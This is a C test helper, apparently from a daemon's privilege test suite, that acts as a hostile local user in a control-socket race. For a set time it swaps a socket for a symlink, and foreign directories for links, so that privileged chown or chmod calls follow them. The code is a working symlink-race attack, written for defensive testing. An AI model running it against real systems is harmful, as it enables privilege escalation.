/* symswap: the hostile local user of the control-socket race (privs.bats).
 *
 * usage: symswap DIR NAME TARGET SECONDS
 *
 * For SECONDS, as fast as it can: whenever DIR/NAME is a socket, replace it
 * with a symbolic link to TARGET by rename(2) (atomic: a chown or chmod by
 * that name at any later moment follows the link); and whenever DIR holds
 * another directory it did not make, move that one aside and put a link to
 * TARGET's directory in its place (an attack on a private directory a
 * daemon might bind in).  Run it as the user who may write DIR.  Prints
 * "swaps N moved M" at the end (SECONDS over, or SIGTERM): how many times
 * each attack landed. */
#include <dirent.h>
#include <signal.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "../../common/num.h"

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

static double now_s(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

/* Replaces DIR/NAME, a socket, with a link to target; 1 if it landed. */
static int swap_socket(const char *dir, const char *name, const char *target)
{
	char path[PATH_MAX], tmp[PATH_MAX];
	struct stat st;

	snprintf(path, sizeof(path), "%s/%s", dir, name);
	if (lstat(path, &st) < 0 || !S_ISSOCK(st.st_mode))
		return 0;
	snprintf(tmp, sizeof(tmp), "%s/.symswap.%d", dir, (int)getpid());
	unlink(tmp);
	if (symlink(target, tmp) < 0)
		return 0;
	return rename(tmp, path) == 0;
}

/* Moves every directory in dir that is not ours aside and links its name
 * to target_dir; returns how many. */
static int swap_dirs(const char *dir, const char *target_dir)
{
	static unsigned long asides;
	DIR *d = opendir(dir);
	struct dirent *e;
	int n = 0;

	if (!d)
		return 0;
	while ((e = readdir(d))) {
		char path[PATH_MAX], aside[PATH_MAX];
		struct stat st;
		if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") ||
		    !strncmp(e->d_name, ".symswap", 8))
			continue;
		snprintf(path, sizeof(path), "%s/%s", dir, e->d_name);
		if (lstat(path, &st) < 0 || !S_ISDIR(st.st_mode) ||
		    st.st_uid == getuid())
			continue;
		snprintf(aside, sizeof(aside), "%s/.symswap-aside.%lu", dir,
			 asides++);
		if (rename(path, aside) == 0) {
			if (symlink(target_dir, path) == 0)
				n++;
		}
	}
	closedir(d);
	return n;
}

int main(int argc, char **argv)
{
	double secs;

	if (argc != 5 || num_seconds(argv[4], 86400, &secs) < 0) {
		fprintf(stderr, "usage: symswap DIR NAME TARGET SECONDS "
			"(SECONDS above 0, at most 86400)\n");
		return 2;
	}
	const char *dir = argv[1], *name = argv[2], *target = argv[3];
	double end = now_s() + secs;
	char target_dir[PATH_MAX];
	long swaps = 0, moved = 0;

	snprintf(target_dir, sizeof(target_dir), "%s", target);
	char *slash = strrchr(target_dir, '/');
	if (slash && slash != target_dir)
		*slash = '\0';
	signal(SIGTERM, on_term);
	while (!stop && now_s() < end) {
		swaps += swap_socket(dir, name, target);
		moved += swap_dirs(dir, target_dir);
	}
	printf("swaps %ld moved %ld\n", swaps, moved);
	return 0;
}
